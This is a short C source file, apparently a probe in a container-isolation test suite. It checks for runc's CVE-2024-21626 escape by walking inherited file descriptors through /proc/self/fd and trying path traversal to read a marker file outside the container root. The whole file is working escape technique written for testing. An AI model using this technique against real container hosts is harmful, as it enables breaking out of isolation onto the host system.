/* SPDX-License-Identifier: Apache-2.0 */
/* Walks its own descriptors for one that leads out of the root, and its working directory upwards (runc's CVE-2024-21626). */
#include "../attack.h"
#include <limits.h>

static int reads(int directory, const char *path) {
  int fd = openat(directory, path, O_RDONLY);
  if (fd < 0)
    return 0;
  char text[8] = "";
  ssize_t got = read(fd, text, sizeof text - 1);
  return got == 7 && strcmp(text, "outside") == 0;
}

int main(int argc, char **argv) {
  char up[PATH_MAX];
  const char *path = argument(argc, argv, 1);
  snprintf(up, sizeof up, "../../../../../../../../../../../..%s", path);
  if (reads(AT_FDCWD, up))
    worked("reached %s from the working directory", path);
  int directories = 0;
  for (int fd = 0; fd < 1024; fd++) {
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    if (chdir(self) == 0)
      directories++;
    if (reads(fd, up))
      worked("reached %s from descriptor %d", path, fd);
    if (reads(AT_FDCWD, up))
      worked("reached %s from the directory that descriptor %d was", path, fd);
  }
  held("no descriptor leads out, %d are directories", directories);
}
